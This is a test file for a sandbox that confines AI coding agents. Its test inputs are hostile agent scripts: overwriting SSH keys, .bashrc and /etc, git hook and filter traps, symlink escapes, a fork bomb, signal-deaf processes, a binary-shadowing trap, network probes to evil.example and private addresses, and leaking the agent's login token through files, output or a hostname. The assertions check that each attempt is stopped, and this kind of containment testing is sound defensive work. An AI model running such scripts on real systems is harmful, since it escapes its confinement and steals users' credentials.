// Agents that want out of their enclosure, or that take the machine. A canary beside the repository, the user's tree
// and the user's git stay as they are.

import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { connect, createServer, type AddressInfo, type Server } from 'node:net';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expect, test } from 'vitest';
import { canIsolate } from '../../../server/src/adapters/agents/agentProposer.ts';
import type { SelfwareError } from '../../../server/src/util/typedError.ts';
import { fingerprint, livingIn, until } from '../sandbox/sandboxOf.ts';
import { createAgentWorld, FILES, put } from './agentWorld.ts';
import { thoroughTest } from '../../helpers/thorough.ts';

const DEAF = "process.on('SIGTERM', () => undefined); setInterval(() => undefined, 1000);";

/** Counts whoever connects. */
async function listening(): Promise<{ readonly server: Server; readonly port: number; visits(): number }> {
  let visits = 0;
  const server = createServer((socket) => {
    visits += 1;
    socket.on('error', () => undefined).once('data', () => socket.end('loot'));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port, visits: () => visits };
}

test('nothing outside of its tree is changed, and nothing of the machine is read', async () => {
  await using world = await createAgentWorld();
  const canary = await put(world.outside, 'canary.txt', 'sings');
  await put(world.home, '.ssh/id', 'secret');
  const before = await fingerprint(world.repository.dir);
  const places = [
    canary,
    join(world.repository.dir, 'src/rate.mjs'),
    join(world.home, '.ssh/id'),
    join(homedir(), '.bashrc'),
  ];
  const { edits } = await world.ask(`import fs from 'node:fs';
const loot = [];
for (const place of ${JSON.stringify(places)}) {
  try { fs.writeFileSync(place, 'broken'); } catch {}
  try { fs.rmSync(place); } catch {}
  try { if (fs.readFileSync(place, 'utf8') !== 'broken') loot.push(place); } catch {}
}
for (const place of ['/etc/selfware-canary', '/usr/selfware-canary', '/selfware-canary'])
  try { fs.writeFileSync(place, 'broken'); loot.push(place); } catch {}
fs.writeFileSync('loot.json', JSON.stringify(loot));`);
  expect(edits).toEqual([{ path: 'loot.json', before: null, after: '[]' }]);
  expect(await readFile(canary, 'utf8')).toBe('sings');
  expect(await fingerprint(world.repository.dir)).toEqual(before);
});

test('its history is its own: without .git, with hooks and filters, the change is the same', async () => {
  await using world = await createAgentWorld();
  const canary = join(world.outside, 'ran');
  const before = await fingerprint(world.repository.dir);
  const trap = `#!/bin/sh\\ntouch ${canary}\\n`;
  const edit = "fs.appendFileSync('src/rate.mjs', '// more');";
  const hooks = `fs.mkdirSync('.git/hooks', { recursive: true });
for (const name of ['post-checkout', 'pre-commit', 'post-index-change']) fs.writeFileSync('.git/hooks/' + name, '${trap}', { mode: 0o755 });
fs.appendFileSync('.git/config', '[core]\\n\\tfsmonitor = touch ${canary}\\n[filter "x"]\\n\\tclean = touch ${canary}\\n');
fs.writeFileSync('.gitattributes', '* filter=x\\n');`;
  for (const script of [
    "fs.rmSync('.git', { recursive: true });",
    "fs.rmSync('.git', { recursive: true }); fs.symlinkSync('/etc', '.git');",
    hooks,
  ]) {
    const { edits } = await world.ask(`import fs from 'node:fs'; ${edit} ${script}`);
    expect(edits?.find(({ path }) => path === 'src/rate.mjs')?.after).toBe(`${FILES['src/rate.mjs']}// more`);
    expect(edits?.some(({ path }) => path.startsWith('.git/') || path === '.git')).toBe(false);
  }
  await expect(readFile(canary)).rejects.toMatchObject({ code: 'ENOENT' });
  expect(await fingerprint(world.repository.dir)).toEqual(before);
});

test('links that lead out are named, and what is behind them is neither read nor written', async () => {
  await using world = await createAgentWorld();
  const canary = await put(world.outside, 'secret.txt', 'secret');
  const { edits, refused } = await world.ask(`import fs from 'node:fs';
fs.symlinkSync(${JSON.stringify(canary)}, 'loot.txt');
fs.rmSync('src/rate.mjs');
fs.symlinkSync(${JSON.stringify(canary)}, 'src/rate.mjs');
fs.symlinkSync(${JSON.stringify(world.outside)}, 'folder');`);
  expect(edits).toBeUndefined();
  expect(refused).toMatch(/folder is a link; loot\.txt is a link; src\/rate\.mjs is a link/);
  expect(refused).not.toContain('secret');
});

/** On a busy machine, 20 MB of output take more than the usual minute. */
const PATIENCE = 240;

thoroughTest('output without end is cut, and an agent that prints too much is ended', async () => {
  await using world = await createAgentWorld();
  const { edits, text } = await world.ask(
    `import fs from 'node:fs'; fs.writeFileSync('a.txt', 'a');
for (let at = 0; at < 2000; at += 1) fs.writeSync(1, 'x'.repeat(9_999) + '\\n');
console.log('Done.');`,
    { seconds: PATIENCE },
  );
  expect([edits?.length, text]).toEqual([1, 'Done.']);
  const endless = "import fs from 'node:fs'; for (;;) fs.writeSync(1, 'x'.repeat(1 << 20));";
  await expect(world.ask(endless, { seconds: PATIENCE })).rejects.toMatchObject({
    message: expect.stringContaining('MB of output'),
  });
});

test('an agent that forks for ever is ended, and none of its processes is left', async () => {
  await using world = await createAgentWorld();
  const bomb = `import { spawn } from 'node:child_process';
const three = ['-c', 'sleep 600 & sleep 600 & sleep 600'];
for (;;) {
  spawn('/bin/sh', three, { detached: true, stdio: 'ignore' }).on('error', () => undefined);
  await new Promise((next) => setImmediate(next));
}`;
  await expect(world.ask(bomb, { seconds: 30 })).rejects.toMatchObject({
    message: expect.stringMatching(/processes|did not end in time|ended with/),
  });
  expect(await livingIn(world.stateDir)).toEqual([]);
});

test('cancelling ends it, though it is deaf to signals, and leaves no process and no copy', async () => {
  await using world = await createAgentWorld();
  const stop = new AbortController();
  const asked = world.ask(
    `import { spawn } from 'node:child_process';
spawn(process.execPath, ['-e', ${JSON.stringify(DEAF)}], { detached: true, stdio: 'inherit' }).unref(); ${DEAF}`,
    { signal: stop.signal, hosts: ['allowed.example'] },
  );
  asked.catch(() => undefined);
  // The relay, the agent and what it starts.
  await until(
    async () => (await livingIn(world.stateDir)).filter(({ command }) => command.includes('SIGTERM')).length > 0,
  );
  stop.abort();
  await expect(asked).rejects.toMatchObject({ reason: 'cancelled' });
  expect(await livingIn(world.stateDir)).toEqual([]);
  const { stdout } = await promisify(execFile)('ls', [join(world.stateDir, 'sandboxes')]);
  expect(stdout).toBe('');
});

test('a program in the packages of the repository does not answer to the name of another', async () => {
  await using world = await createAgentWorld({ ...FILES, 'package.json': '{"name":"trap","version":"1.0.0"}' });
  const trap = '#!/bin/sh\necho trapped > trapped.txt\n';
  await put(world.repository.dir, 'node_modules/.bin/node', trap);
  await promisify(execFile)('chmod', ['+x', join(world.repository.dir, 'node_modules/.bin/node')]);
  const { edits } = await world.ask(
    `import fs from 'node:fs'; import { execFileSync } from 'node:child_process';
fs.writeFileSync('said.txt', execFileSync('node', ['-p', '1 + 1'], { encoding: 'utf8' }));`,
    { hosts: ['allowed.example'] },
  );
  expect(edits).toEqual([{ path: 'said.txt', before: null, after: '2\n' }]);
});

/** What a script in the enclosure writes to `said.json`. */
const REACH = `import fs from 'node:fs'; import net from 'node:net'; import http from 'node:http';
const plain = (port, host) => new Promise((resolve) =>
  net.connect(port, host).on('connect', () => resolve('reached')).on('error', ({ code }) => resolve(code)));
const proxy = process.env.HTTPS_PROXY && new URL(process.env.HTTPS_PROXY);
const through = (path) => new Promise((resolve) => http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path })
  .on('connect', ({ statusCode }, socket) => {
    if (statusCode !== 200) return socket.destroy(), resolve(statusCode);
    let text = '';
    socket.on('data', (bytes) => (text += bytes)).on('close', () => resolve(text)).write('hello');
  }).on('error', ({ code }) => resolve(code)).end());
const say = (value) => fs.writeFileSync('said.json', JSON.stringify(value));
`;

test('without hosts there is no network, neither of this machine nor beyond', async () => {
  await using world = await createAgentWorld();
  const { server, port, visits } = await listening();
  const { edits } = await world.ask(`${REACH}
say([proxy ?? null, await plain(${port}, '127.0.0.1'), await plain(443, '93.184.215.14')]);`);
  server.close();
  expect(JSON.parse(edits![0]!.after!)).toEqual([null, 'ECONNREFUSED', 'ENETUNREACH']);
  expect(visits()).toBe(0);
});

test('with hosts, these alone are reached, and never this machine or a private network', async () => {
  await using world = await createAgentWorld();
  const { server, port, visits } = await listening();
  const addresses: Record<string, string> = {
    'allowed.example': '93.184.215.14',
    'inner.example': '10.0.0.7',
    'mapped.example': '::ffff:192.168.1.1',
    'own.example': '127.0.0.1',
  };
  const connected: string[] = [];
  const { edits, usage } = await world.ask(
    `${REACH}
say(await Promise.all([through('allowed.example:443'), through('allowed.example:80'), through('evil.example:443'),
  through('inner.example:443'), through('mapped.example:443'), through('own.example:443'),
  through('127.0.0.1:443'), plain(${port}, '127.0.0.1')]));`,
    {
      hosts: Object.keys(addresses),
      gate: {
        resolve: async (host) => {
          const address = addresses[host]!;
          return { address, family: address.includes(':') ? 6 : 4 };
        },
        connectTo: async (address) => {
          connected.push(address);
          return connect(port, '127.0.0.1');
        },
      },
    },
  );
  server.close();
  expect(JSON.parse(edits![0]!.after!)).toEqual(['loot', 403, 403, 502, 502, 502, 403, 'ECONNREFUSED']);
  expect([connected, visits()]).toEqual([['93.184.215.14'], 1]);
  expect(usage).toMatchObject({ estimated: true, input: 2 });
});

/** Sends bytes to the host, and waits until some have arrived. */
const SENDS = `${REACH}
const send = (bytes) => new Promise((resolve) => http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT',
  path: 'allowed.example:443' }).on('connect', (_, socket) =>
    socket.on('data', resolve).on('error', resolve).on('close', resolve).write('x'.repeat(bytes))).on('error', resolve).end());
`;

/** A host that reads everything, and answers to each piece with two bytes. */
async function createListener() {
  const server = createServer(
    (socket) => void socket.on('data', () => socket.write('ok')).on('error', () => undefined),
  );
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const gate = {
    resolve: async () => ({ address: '93.184.215.14', family: 4 }),
    connectTo: async () => connect(port, '127.0.0.1'),
  };
  return { gate, [Symbol.dispose]: () => void server.close() };
}

test('an agent is ended when its traffic has used up the tokens of its budget, and what it used is told', async () => {
  await using world = await createAgentWorld();
  using listener = await createListener();
  const given = {
    hosts: ['allowed.example'],
    gate: listener.gate,
    maxTraffic: { tokens: 10_000, money: null },
    seconds: 300,
  };
  // It would go on for five minutes.
  const asked = world.ask(`${SENDS} for (;;) await send(4000);`, given);
  const error = await asked.catch((thrown: unknown) => thrown);
  expect(error).toMatchObject({
    reason: 'unavailable',
    message: expect.stringMatching(
      /^command:tried was ended because it used about [\d,]+ tokens, more than its budget has left, and changed no file\./,
    ),
    action: expect.stringContaining('models.tokensPerTask'),
    usage: { estimated: true, input: expect.any(Number) },
  });
  const { usage } = error as SelfwareError;
  expect(usage!.input).toBeGreaterThan(40_000);
  expect(usage!.input).toBeLessThan(300_000);
});

test('an agent that fails tells what it has sent until then', async () => {
  await using world = await createAgentWorld();
  using listener = await createListener();
  const given = { hosts: ['allowed.example'], gate: listener.gate, maxTraffic: { tokens: 10_000, money: null } };
  await expect(world.ask(`${SENDS} await send(4000); process.exit(1);`, given)).rejects.toMatchObject({
    message: 'command:tried ended with 1 and changed no file.',
    usage: { input: 1000, output: 1, estimated: true, limited: 201 },
  });
});

test.each(['command', 'acp'] as const)(
  'what an agent (%s) has changed when its budget ends it is not taken',
  async (protocol) => {
    await using world = await createAgentWorld();
    using listener = await createListener();
    const maxTraffic = { tokens: 10_000, money: null };
    const write = `(await import('node:fs')).writeFileSync('half.mjs', 'half');`;
    const script = `${SENDS} ${write} for (;;) await send(4000);`;
    const given = { hosts: ['allowed.example'], gate: listener.gate, maxTraffic, protocol, seconds: 300 };
    expect(await world.ask(script, given)).toMatchObject({
      refused: expect.stringMatching(/was ended because it used about [\d,]+ tokens, .* did not finish its change/),
    });
  },
);

test('an agent is ended when its traffic has used up its money, by the prices of what is sent and received', async () => {
  await using world = await createAgentWorld();
  using listener = await createListener();
  // 300 received bytes are a token, so more than 150 answers of two bytes are two.
  const price = { input: 0, output: 1_000_000 };
  const maxTraffic = { tokens: 1_000_000, money: { amount: 1, price } };
  const given = { hosts: ['allowed.example'], gate: listener.gate, maxTraffic, seconds: 300 };
  await expect(world.ask(`${SENDS} for (;;) await send(10);`, given)).rejects.toMatchObject({
    message: expect.stringMatching(/ended because it used about 2\.00 of money, more than its budget has left/),
    usage: { output: 2 },
  });
});

test('hosts that were asked for in vain are named', async () => {
  await using world = await createAgentWorld();
  const asked = world.ask(`${REACH} await through('evil.example:443'); process.exit(1);`, {
    hosts: ['allowed.example'],
  });
  await expect(asked).rejects.toMatchObject({
    message: 'command:tried ended with 1 and changed no file. It asked for hosts that it may not reach: evil.example.',
  });
});

test('protected files are an answer like others: the charter and the gates judge it', async () => {
  await using world = await createAgentWorld({ ...FILES, 'package.json': '{}\n', 'test/rate.test.mjs': 'test\n' });
  const { edits } = await world.ask(`import fs from 'node:fs';
fs.writeFileSync('package.json', '{"scripts":{}}'); fs.rmSync('test/rate.test.mjs');
fs.mkdirSync('.github/workflows', { recursive: true }); fs.writeFileSync('.github/workflows/ci.yml', 'on: push');`);
  expect(edits?.map(({ path, after }) => [path, after === null])).toEqual([
    ['.github/workflows/ci.yml', false],
    ['package.json', false],
    ['test/rate.test.mjs', true],
  ]);
});

test.each([
  ['a file', "fs.writeFileSync('leak.txt', 'x' + token);"],
  ['the name of a file', "fs.writeFileSync(token, '');"],
  ['what it says', "fs.writeFileSync('a.txt', ''); console.log(token);"],
  ['a key in a file', "fs.writeFileSync('leak.txt', process.env.AGENT_KEY);"],
  [
    'a login that the agent has renewed',
    `const fresh = 'new_abcdefghij0123456789';
for (const file of [os.homedir() + '/.agent/login.json', 'leak.txt']) fs.writeFileSync(file, fresh);`,
  ],
])('a change that holds a part of the login is not taken: %s', async (_what, script) => {
  await using world = await createAgentWorld();
  await put(world.home, '.agent/login.json', '{"access_token":"tok_0123456789abcdefghij"}');
  const reply = await world.ask(
    `import fs from 'node:fs'; import os from 'node:os';
const token = JSON.parse(fs.readFileSync(os.homedir() + '/.agent/login.json', 'utf8')).access_token; ${script}`,
    {
      login: ['.agent/login.json'],
      keys: ['AGENT_KEY'],
      env: { PATH: process.env['PATH'], AGENT_KEY: 'key_0123456789abcdefghij' },
    },
  );
  expect([reply.edits, reply.text, reply.refused]).toEqual([undefined, '', expect.stringContaining('its login')]);
});

test('what is told of an agent without a change, or with a refused one, holds no part of its login', async () => {
  await using world = await createAgentWorld();
  const given = { keys: ['AGENT_KEY'], env: { PATH: process.env['PATH'], AGENT_KEY: 'key_0123456789abcdefghij' } };
  await expect(
    world.ask('console.error(process.env.AGENT_KEY + " is wrong"); process.exit(1);', given),
  ).rejects.toMatchObject({
    message: 'command:tried ended with 1 and changed no file. It said last: … is wrong.',
  });
  const asks = `${REACH}await through(process.env.AGENT_KEY + '.example:443');`;
  const asked = (await world.ask(asks, { ...given, hosts: ['allowed.example'] })).refused;
  expect(asked).toContain('hosts that it may not reach: ….example');
  const link = "import fs from 'node:fs'; fs.symlinkSync('/etc', 'a' + process.env.AGENT_KEY);";
  expect((await world.ask(link, given)).refused).toContain('taken: a… is a link');
});

test('what shuts off neither the servers of this machine nor daemons is not enough for an agent', () => {
  expect(canIsolate({ confined: true, kind: 'bubblewrap' })).toBe(true);
  expect(canIsolate({ confined: true, kind: 'sandbox-exec' })).toBe(false);
  expect(canIsolate({ confined: false, kind: 'none' })).toBe(false);
});
